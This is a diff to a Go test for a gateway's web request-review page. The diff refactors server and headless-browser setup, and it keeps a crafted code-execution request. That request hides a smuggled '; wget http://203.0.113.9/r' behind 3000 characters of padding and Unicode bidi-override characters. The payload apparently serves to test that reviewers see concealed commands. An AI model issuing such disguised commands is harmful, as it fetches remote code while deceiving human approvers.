@@ -2,9 +2,6 @@ package gateway_test
 
 import (
 	"context"
-	"errors"
-	"net"
-	"net/http"
 	"strings"
 	"testing"
 	"time"
@@ -25,33 +22,12 @@ func TestWebBrowser_RequestPage(t *testing.T) {
 	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
 	defer cancel()
 	app := newWebApp(t, func(c *config.Config) { c.Vaglio.JudgeThreshold = 0 })
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	srvCtx, stop := context.WithCancel(ctx)
-	served := make(chan error, 1)
-	go func() { served <- app.Serve(srvCtx, ln) }()
-	t.Cleanup(func() {
-		stop()
-		if err := <-served; err != nil && !errors.Is(err, http.ErrServerClosed) {
-			t.Errorf("Serve: %v", err)
-		}
-	})
-	base := "http://" + ln.Addr().String()
+	base := serveWeb(t, ctx, app)
 	tail := strings.Repeat("x", 3000) + "; wget http://203.0.113.9/r"
 	r := apiRequest(t, base, codeExec("cat notes\u202E\u2066hs.txt "+tail))
 
-	opts := append(chromedp.DefaultExecAllocatorOptions[:],
-		chromedp.ExecPath(chromium), chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU,
-		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
-		chromedp.Flag("disable-sync", true), chromedp.NoFirstRun, chromedp.UserDataDir(t.TempDir()),
-		chromedp.WindowSize(412, 900),
-	)
-	allocCtx, cancelAlloc := chromedp.NewExecAllocator(ctx, opts...)
-	defer cancelAlloc()
-	browser, cancelBrowser := chromedp.NewContext(allocCtx)
-	defer cancelBrowser()
+	browser, closeBrowser := newBrowser(ctx, chromium, t.TempDir())
+	defer closeBrowser()
 
 	card := chromedp.CSS("#req-" + r.ID)
 	if err := chromedp.Do(browser, chromedp.Navigate(base+"/r/"+r.ID), chromedp.WaitVisible(card)); err != nil {
